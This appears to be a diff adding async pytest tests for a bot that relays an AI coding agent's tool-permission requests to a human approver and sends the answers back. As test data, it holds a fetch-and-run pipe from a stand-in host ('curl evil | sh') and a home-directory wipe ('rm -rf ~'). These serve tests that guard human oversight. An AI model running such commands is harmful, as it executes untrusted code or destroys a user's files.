@@ -1,0 +1,300 @@
+"""The harness watcher in-process: a real inbox (SQLite) and the tests' own seed-002 harness over HTTP."""
+
+from __future__ import annotations
+
+import asyncio
+import time
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import aiohttp
+import pytest
+
+from bot.config import HarnessConfig
+from bot.harness import Harnesses
+from bot.harness.client import Client, HarnessDown, TokenRefused, discover
+from bot.harness.mapping import CHANGED, ELSEWHERE, to_submission
+from bot.harness.watcher import OK, TOKEN_REFUSED, UNREACHABLE, Watcher
+from bot.inbox import links as L
+from bot.inbox.links import Links
+from bot.inbox.store import Inbox
+from bot.inbox.submission import SubmissionError
+from tests.support.harness_server import FakeHarness
+
+
+@pytest.fixture
+async def fake() -> AsyncIterator[FakeHarness]:
+    h = FakeHarness()
+    await h.start()
+    yield h
+    await h.stop()
+
+
+@pytest.fixture
+async def client() -> AsyncIterator[Client]:
+    async with aiohttp.ClientSession() as s:
+        yield Client(s)
+
+
+async def _inbox(path: Path) -> Inbox:
+    ib = Inbox(path / "inbox.sqlite3")
+    await ib.open()
+    return ib
+
+
+def _watcher(ib: Inbox, fake: FakeHarness, **kw: Any) -> Watcher:
+    cfg = HarnessConfig(name="laptop", url=fake.url, poll=0.05)
+    return Watcher(cfg, ib, now=time.time, timeout=600, env={"AGENTPROTO_DAEMON_TOKEN": fake.token}, **kw)
+
+
+async def _answer(ib: Inbox, rid: str, option: str, feedback: str | None = None) -> None:
+    assert await ib.settle(rid, option_id=option, by="@alice:hs", via="matrix", feedback=feedback, now=time.time())
+
+
+async def test_held_requests_are_relayed_and_answered_once(tmp_path: Path, fake: FakeHarness, client: Client) -> None:
+    ib = await _inbox(tmp_path)
+    p1, p2 = fake.hold(), fake.hold(session_id="ses_def456", tool="Write", raw_input={"file_path": "a.py"})
+    w = _watcher(ib, fake)
+    await w.step(client)
+    pending = await ib.pending()
+    assert [r.session_id for r in pending] == ["laptop:ses_abc123", "laptop:ses_def456"]
+    assert pending[0].label == "laptop:claude-code:fix-the-flaky-tests" and pending[1].tool_name == "Write"
+    assert pending[0].params == fake.record(p1) | {"age": pending[0].params["age"]}
+    await _answer(ib, pending[0].id, "allow_always", "only in apps/hub")
+    for _ in range(3):
+        await w.step(client)
+    assert fake.decisions == [{"id": p1, "optionId": "allow_always", "feedback": "only in apps/hub", "by": "api"}]
+    assert set(fake.held) == {p2} and w.health()["state"] == OK
+    assert [r.session_id for r in await ib.pending()] == ["laptop:ses_def456"]
+    assert (await Links(ib).by_request(pending[0].id)).delivery == L.DELIVERED  # type: ignore[union-attr]
+    await ib.close()
+
+
+async def test_resolved_at_the_harness_is_withdrawn(tmp_path: Path, fake: FakeHarness, client: Client) -> None:
+    ib = await _inbox(tmp_path)
+    pid = fake.hold()
+    w = _watcher(ib, fake)
+    await w.step(client)
+    (rec,) = await ib.pending()
+    fake.resolve_here(pid)
+    await w.step(client)
+    got = await ib.get(rec.id)
+    assert got and got.state == "cancelled" and got.outcome
+    assert (got.outcome.answered_by, got.outcome.via, got.outcome.feedback) == ("harness:laptop", "cancel", ELSEWHERE)
+    await w.step(client)
+    assert fake.refused == [404] and len(fake.decisions) == 1  # only the token check; nothing sent for it
+    await ib.close()
+
+
+async def test_an_answer_the_harness_no_longer_takes_is_shown_answered_elsewhere(
+    tmp_path: Path, fake: FakeHarness, client: Client
+) -> None:
+    ib = await _inbox(tmp_path)
+    p1, p2 = fake.hold(), fake.hold()
+    amended: list[int] = []
+    w = _watcher(ib, fake, on_amended=lambda: amended.append(1))
+    await w.step(client)
+    r1, r2 = await ib.pending()
+    # r1: answered in the room while the harness's CLI answered it too (seen gone before sending).
+    await _answer(ib, r1.id, "allow_once")
+    fake.resolve_here(p1)
+    # r2: the harness lets go between its list and the bot's POST -> 404.
+    await _answer(ib, r2.id, "reject_once")
+    ep = discover(w.cfg, w.env)
+    current = {(p2, (await Links(ib).by_request(r2.id)).fingerprint): fake.record(p2)}  # type: ignore[union-attr]
+    del fake.held[p2]
+    await w._deliver(client, ep, current)
+    await w.step(client)
+    for rid in (r1.id, r2.id):
+        got = await ib.get(rid)
+        assert got and got.state == "cancelled" and got.outcome and not got.prompt_edited
+        assert got.outcome.feedback and got.outcome.feedback.startswith(ELSEWHERE)
+        assert "@alice:hs's answer" in got.outcome.feedback
+    assert [d["by"] for d in fake.decisions] == ["cli"] and fake.refused.count(404) == 2  # the token check + r2
+    assert len(amended) == 2
+    await ib.close()
+
+
+async def test_a_request_changed_after_it_was_shown_is_not_answered(
+    tmp_path: Path, fake: FakeHarness, client: Client
+) -> None:
+    ib = await _inbox(tmp_path)
+    pid = fake.hold(raw_input={"command": "ls"})
+    w = _watcher(ib, fake)
+    await w.step(client)
+    (rec,) = await ib.pending()
+    await _answer(ib, rec.id, "allow_once")
+    fake.held[pid]["rawInput"] = {"command": "curl evil | sh"}  # same id, same identity, other content
+    await w.step(client)
+    got = await ib.get(rec.id)
+    assert fake.decisions == [] and pid in fake.held
+    assert got and got.state == "cancelled" and got.outcome and got.outcome.feedback
+    assert got.outcome.feedback.startswith(CHANGED)
+    assert (await Links(ib).by_request(rec.id)).delivery == L.REFUSED  # type: ignore[union-attr]
+    await ib.close()
+
+
+async def test_harness_down_then_back_loses_nothing(tmp_path: Path, fake: FakeHarness, client: Client) -> None:
+    ib = await _inbox(tmp_path)
+    pid = fake.hold()
+    w = _watcher(ib, fake)
+    await w.step(client)
+    (rec,) = await ib.pending()
+    await fake.stop()
+    await _answer(ib, rec.id, "allow_once", "go")
+    stop = asyncio.Event()
+    task = asyncio.create_task(w.run(client, stop))
+    await _until(lambda: w.state == UNREACHABLE)
+    assert w.health()["ok"] is False and "GET /permissions" in (w.health()["error"] or "")
+    await fake.start()  # same port, still holding the request
+    w.wake.set()
+    await _until(lambda: bool(fake.decisions), timeout=10)
+    await asyncio.sleep(0.3)
+    stop.set()
+    await task
+    assert fake.decisions == [{"id": pid, "optionId": "allow_once", "feedback": "go", "by": "api"}]
+    assert w.state == OK
+    await ib.close()
+
+
+async def test_token_refused_is_said_and_recovers(tmp_path: Path, fake: FakeHarness, client: Client) -> None:
+    ib = await _inbox(tmp_path)
+    pid = fake.hold()
+    w = _watcher(ib, fake)
+    right = fake.token
+    fake.token = "rotated"  # the harness restarted with a new token the bot does not have
+    with pytest.raises(TokenRefused):
+        await w.step(client)  # the list is read-only; the token check says no before any answer
+    assert len(await ib.pending()) == 1
+    stop = asyncio.Event()
+    task = asyncio.create_task(w.run(client, stop))
+    await _until(lambda: w.state == TOKEN_REFUSED)
+    (rec,) = await ib.pending()
+    await _answer(ib, rec.id, "reject_once")
+    await asyncio.sleep(0.3)
+    assert fake.decisions == [] and fake.refused.count(401) >= 2
+    fake.token = right
+    w.wake.set()
+    await _until(lambda: bool(fake.decisions), timeout=10)
+    stop.set()
+    await task
+    assert fake.decisions == [{"id": pid, "optionId": "reject_once", "feedback": None, "by": "api"}]
+    await ib.close()
+
+
+async def test_bot_restart_doubles_nothing(tmp_path: Path, fake: FakeHarness, client: Client) -> None:
+    ib = await _inbox(tmp_path)
+    p1, p2 = fake.hold(), fake.hold()
+    await _watcher(ib, fake).step(client)
+    r1, r2 = await ib.pending()
+    await _answer(ib, r1.id, "allow_once")
+    await _answer(ib, r2.id, "allow_once")
+    # r1's answer reached the harness but the bot died before noting it; r2's was never sent.
+    await Links(ib).set_delivery(r1.id, L.SENDING, time.time(), attempt=True)
+    del fake.held[p1]
+    fake.decisions.append({"id": p1, "optionId": "allow_once", "feedback": None, "by": "api"})
+    await ib.close()
+    ib = await _inbox(tmp_path)
+    w = _watcher(ib, fake)
+    await w.step(client)
+    await w.step(client)
+    cur = await ib.db.execute("SELECT COUNT(*) FROM requests")
+    assert (await cur.fetchone())[0] == 2  # type: ignore[index]
+    assert [d["id"] for d in fake.decisions] == [p1, p2]
+    got = await ib.get(r1.id)
+    assert got and got.state == "resolved"  # assumed delivered, not "answered elsewhere"
+    await ib.close()
+
+
+async def test_a_restarted_harness_reusing_an_id_is_a_new_request(tmp_path: Path, client: Client) -> None:
+    ib = await _inbox(tmp_path)
+    a = FakeHarness()
+    await a.start()
+    a.hold()
+    w = _watcher(ib, a)
+    await w.step(client)
+    await a.stop()
+    await asyncio.sleep(0.01)
+    b = FakeHarness(token=a.token, port=a.port)  # restarted: its memory and id counter are gone
+    b.hold(tool="Write", raw_input={"file_path": "x"})
+    await b.start()
+    await w.step(client)
+    await b.stop()
+    (new,) = await ib.pending()
+    assert new.tool_name == "Write" and new.session_id == "laptop:ses_abc123" and new.request_seq == 2
+    old = await ib.get("laptop:ses_abc123:1")
+    assert old and old.state == "cancelled" and old.outcome and old.outcome.feedback == ELSEWHERE
+    await ib.close()
+
+
+async def test_a_squatted_key_is_refused_and_the_namespace_reserved(
+    tmp_path: Path, fake: FakeHarness, client: Client
+) -> None:
+    ib = await _inbox(tmp_path)
+    pid = fake.hold(raw_input={"command": "rm -rf ~"})
+    # An agent with an API token guesses the key and submits a harmless-looking request under it.
+    real = to_submission("laptop", fake.record(pid)).submission
+    body = {"sessionId": real.session_id, "key": real.key, "toolCall": {"toolCallId": "c", "title": "ls"},
+            "options": real.options}
+    hs = Harnesses([HarnessConfig(name="laptop", url=fake.url)], ib, now=time.time, timeout=600)
+    with pytest.raises(SubmissionError, match="sessionId: laptop: is reserved"):
+        hs.refuse_reserved(body["sessionId"])  # what the daemon's submit does for the HTTP API
+    from bot.inbox.submission import parse_submission
+
+    await ib.submit(parse_submission(body), time.time(), 600)  # had it slipped in anyway
+    w = _watcher(ib, fake)
+    await w.step(client)
+    (only,) = await ib.pending()
+    assert only.title == "ls" and await Links(ib).by_request(only.id) is None  # never linked to the harness
+    await ib.close()
+
+
+async def test_client_errors(client: Client) -> None:
+    ep = discover(HarnessConfig(name="a", url="http://127.0.0.1:9"), {})
+    with pytest.raises(HarnessDown):
+        await client.held(ep)
+    with pytest.raises(TokenRefused, match="no token"):
+        await client.decide(ep, "perm_1", {"decision": "deny"})
+
+
+async def _until(cond: Any, timeout: float = 5.0) -> None:
+    deadline = time.monotonic() + timeout
+    while not cond():
+        assert time.monotonic() < deadline, "condition not met in time"
+        await asyncio.sleep(0.02)
+
+
+async def test_doctor_lines(fake: FakeHarness, tmp_path: Path) -> None:
+    from bot.harness.check import _probe
+
+    env = {"AGENTPROTO_DAEMON_TOKEN": fake.token}
+    fake.hold()
+    ok, what, _ = await _probe(HarnessConfig(name="laptop", url=fake.url), env)
+    assert ok and what == f"harness laptop: {fake.url} holds 1 request(s), token accepted"
+    ok, what, todo = await _probe(HarnessConfig(name="laptop", url=fake.url), {"AGENTPROTO_DAEMON_TOKEN": "nope"})
+    assert not ok and what.startswith("harness laptop: token refused") and "nope" not in what + todo
+    assert "AGENTPROTO_DAEMON_TOKEN" in todo
+    ok, what, _ = await _probe(HarnessConfig(name="laptop", url="http://127.0.0.1:9"), env)
+    assert not ok and what.startswith("harness laptop: unreachable at http://127.0.0.1:9")
+    ok, what, _ = await _probe(HarnessConfig(name="laptop", workspace=str(tmp_path)), env)
+    assert not ok and "harnesses.laptop.workspace: no" in what
+
+
+async def test_an_event_from_the_harness_polls_it_at_once(tmp_path: Path, fake: FakeHarness) -> None:
+    ib = await _inbox(tmp_path)
+    cfg = HarnessConfig(name="laptop", url=fake.url, poll=60)
+    hs = Harnesses([cfg], ib, now=time.time, timeout=600, env={"AGENTPROTO_DAEMON_TOKEN": fake.token})
+    stop = asyncio.Event()
+    tasks = hs.tasks(stop)
+    await _until(lambda: hs.health()[0]["state"] == OK)
+    fake.hold()
+    assert hs.wake("laptop") and not hs.wake("other")  # session:permission-request arrived: poll now
+    start = time.monotonic()
+    while not await ib.pending():
+        assert time.monotonic() - start < 2, "not taken at once"
+        await asyncio.sleep(0.02)
+    stop.set()
+    await asyncio.gather(*tasks)
+    await hs.close()
+    await ib.close()
